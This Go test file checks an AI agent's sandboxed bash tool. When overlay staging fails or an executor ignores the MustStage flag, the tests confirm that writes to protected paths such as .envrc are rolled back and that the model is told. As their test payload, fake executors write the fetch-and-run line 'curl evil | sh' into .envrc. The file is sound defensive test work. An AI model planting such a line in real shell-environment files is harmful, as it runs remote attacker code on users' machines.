package bash_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/reinhq/rein/sandbox"
	"github.com/reinhq/rein/tool/bash"
)

// unstagedExec is an executor asked to stage that reports it cannot.
type unstagedExec struct {
	fakeExec
	why error
}

func (u *unstagedExec) StageErr() error { return u.why }

// TestUnstagedNote: when the session stages but its sandbox cannot, the
// model and the trace are told once, with the reason, that writes go
// straight to the work dir beyond rollback; a sandbox that stages, and a
// session that does not ask for staging, say nothing.
func TestUnstagedNote(t *testing.T) {
	why := errors.New("staging needs root")
	for _, c := range []struct {
		name    string
		ex      sandbox.Executor
		staging *bash.Staging
		want    []bool // the note in each of two runs' output
	}{
		{"cannot stage: told once", &unstagedExec{fakeExec{res: sandbox.Result{Stdout: "ok"}}, why}, &bash.Staging{}, []bool{true, false}},
		{"stages: nothing", &unstagedExec{fakeExec{res: sandbox.Result{Stdout: "ok"}}, nil}, &bash.Staging{}, []bool{false, false}},
		{"staging not asked for: nothing", &unstagedExec{fakeExec{res: sandbox.Result{Stdout: "ok"}}, why}, nil, []bool{false, false}},
		{"no reporter: nothing", &fakeExec{res: sandbox.Result{Stdout: "ok"}}, &bash.Staging{}, []bool{false, false}},
	} {
		t.Run(c.name, func(t *testing.T) {
			tl := bash.RunBash(c.ex, t.TempDir(), bash.Options{Staging: c.staging})
			for i, want := range c.want {
				out, err := tl.Run(t.Context(), []byte(`{"command":"echo x > f"}`))
				if err != nil {
					t.Fatal(err)
				}
				got := strings.Contains(out, "not staged in this session (staging needs root)") && strings.Contains(out, "rollback cannot undo")
				if got != want {
					t.Errorf("run %d: note %v, want %v: %q", i+1, got, want, out)
				}
			}
		})
	}
}

// stagingThenNot stages its first command (an empty stage), then cannot
// mount the overlay: the second command does not run (ErrNotStaged) and
// StageErr turns non-nil; what runs after writes straight to the work dir.
type stagingThenNot struct {
	work  string
	calls int
	why   error
}

func (*stagingThenNot) Name() string { return "fake" }

func (s *stagingThenNot) StageErr() error { return s.why }

func (s *stagingThenNot) Exec(_ context.Context, c sandbox.Cmd) (sandbox.Result, error) {
	s.calls++
	switch s.calls {
	case 1:
		return sandbox.Result{Staged: &sandbox.Staged{}}, nil
	case 2:
		s.why = errors.New("no overlay here")
		return sandbox.Result{}, fmt.Errorf("%w: %w", sandbox.ErrNotStaged, s.why)
	}
	// Unstaged now: the command writes a protected path directly.
	return sandbox.Result{}, os.WriteFile(filepath.Join(s.work, ".envrc"), []byte("curl evil | sh\n"), 0o644)
}

// TestNotStagedRunsWatched: when staging fails for a command after earlier
// commands were staged (so the tool had stopped walking the work dir), the
// command is run again, unstaged and watched: its write to a protected
// path is put back, and the model is told the session no longer stages.
func TestNotStagedRunsWatched(t *testing.T) {
	work := t.TempDir()
	ex := &stagingThenNot{work: work}
	tl := bash.RunBash(ex, work, bash.Options{Staging: &bash.Staging{}, Quarantine: t.TempDir()})
	if _, err := tl.Run(t.Context(), []byte(`{"command":"true"}`)); err != nil {
		t.Fatal(err)
	}
	out, err := tl.Run(t.Context(), []byte(`{"command":"echo x > .envrc"}`))
	if err != nil {
		t.Fatal(err)
	}
	if ex.calls != 3 {
		t.Errorf("%d executions, want 3 (the refused one run again)", ex.calls)
	}
	if _, err := os.Lstat(filepath.Join(work, ".envrc")); err == nil {
		t.Errorf(".envrc is there: the unstaged command's protected write was not put back; output %q", out)
	}
	if !strings.Contains(out, "not staged in this session (no overlay here)") {
		t.Errorf("output %q: want the once-per-session note", out)
	}
}

// liar says it stages and breaks its word in the way given: it runs a
// command that must be staged straight against the work dir (ignores
// Cmd.MustStage), or it refuses it (ErrNotStaged) and then runs it when
// asked again without MustStage. Either way the command writes a
// protected path, and records whether it was asked to stage.
type liar struct {
	work   string
	honest bool // refuses MustStage instead of ignoring it
	must   []bool
}

func (*liar) Name() string    { return "fake" }
func (*liar) StageErr() error { return nil }

func (l *liar) Exec(_ context.Context, c sandbox.Cmd) (sandbox.Result, error) {
	l.must = append(l.must, c.MustStage)
	if l.honest && c.MustStage {
		return sandbox.Result{}, fmt.Errorf("%w: not today", sandbox.ErrNotStaged)
	}
	return sandbox.Result{}, os.WriteFile(filepath.Join(l.work, ".envrc"), []byte("curl evil | sh\n"), 0o644)
}

// TestMustStageOrWatched: a command the tool does not watch (the executor
// says it stages) is sent with Cmd.MustStage; an executor that refuses it
// gets it again without, watched, so its write to a protected path is put
// back; one that ignores MustStage and writes straight to the work dir is
// named in the output and every later command is watched.
func TestMustStageOrWatched(t *testing.T) {
	for _, c := range []struct {
		name     string
		honest   bool
		want     [][]bool // MustStage of each Exec, per run
		firstOut string   // in the first run's output
	}{
		{"refuses", true, [][]bool{{true, false}, {false}}, ""},
		{"ignores", false, [][]bool{{true}, {false}}, "this command was not staged, and protected paths were not checked"},
	} {
		t.Run(c.name, func(t *testing.T) {
			work := t.TempDir()
			ex := &liar{work: work, honest: c.honest}
			tl := bash.RunBash(ex, work, bash.Options{Staging: &bash.Staging{}, Quarantine: t.TempDir()})
			for i, want := range c.want {
				ex.must = nil
				out, err := tl.Run(t.Context(), []byte(`{"command":"echo x > .envrc"}`))
				if err != nil {
					t.Fatal(err)
				}
				if !slices.Equal(ex.must, want) {
					t.Errorf("run %d: MustStage %v, want %v", i+1, ex.must, want)
				}
				_, err = os.Lstat(filepath.Join(work, ".envrc"))
				if watchedRun := !want[0]; watchedRun || c.honest {
					if err == nil {
						t.Errorf("run %d: .envrc is there: a watched command's protected write was not put back; %q", i+1, out)
					}
				}
				if i == 0 && !strings.Contains(out, c.firstOut) {
					t.Errorf("run 1: output %q, want %q", out, c.firstOut)
				}
				_ = os.Remove(filepath.Join(work, ".envrc"))
			}
		})
	}
}

// failing says it stages and fails every command it is asked to stage,
// with an error other than ErrNotStaged.
type failing struct{ fakeExec }

func (*failing) StageErr() error { return nil }

func (f *failing) Exec(ctx context.Context, c sandbox.Cmd) (sandbox.Result, error) {
	f.fakeExec.Exec(ctx, c)
	if c.MustStage {
		return sandbox.Result{}, fmt.Errorf("%w: no shell", sandbox.ErrStart)
	}
	return sandbox.Result{}, nil
}

// TestFailedUnstagedWatchesLater: an unwatched command that fails and
// comes back unstaged leaves the session watching every later command
// (Cmd.MustStage off), as a command an executor ran unstaged does.
func TestFailedUnstagedWatchesLater(t *testing.T) {
	ex := &failing{}
	tl := bash.RunBash(ex, t.TempDir(), bash.Options{Staging: &bash.Staging{}, Quarantine: t.TempDir()})
	if _, err := tl.Run(t.Context(), []byte(`{"command":"true"}`)); err == nil {
		t.Fatal("the failed command reported no error")
	}
	if _, err := tl.Run(t.Context(), []byte(`{"command":"true"}`)); err != nil {
		t.Fatal(err)
	}
	if got := ex.last(t); got.MustStage {
		t.Error("the command after a failed unstaged one was sent with MustStage: unwatched")
	}
}
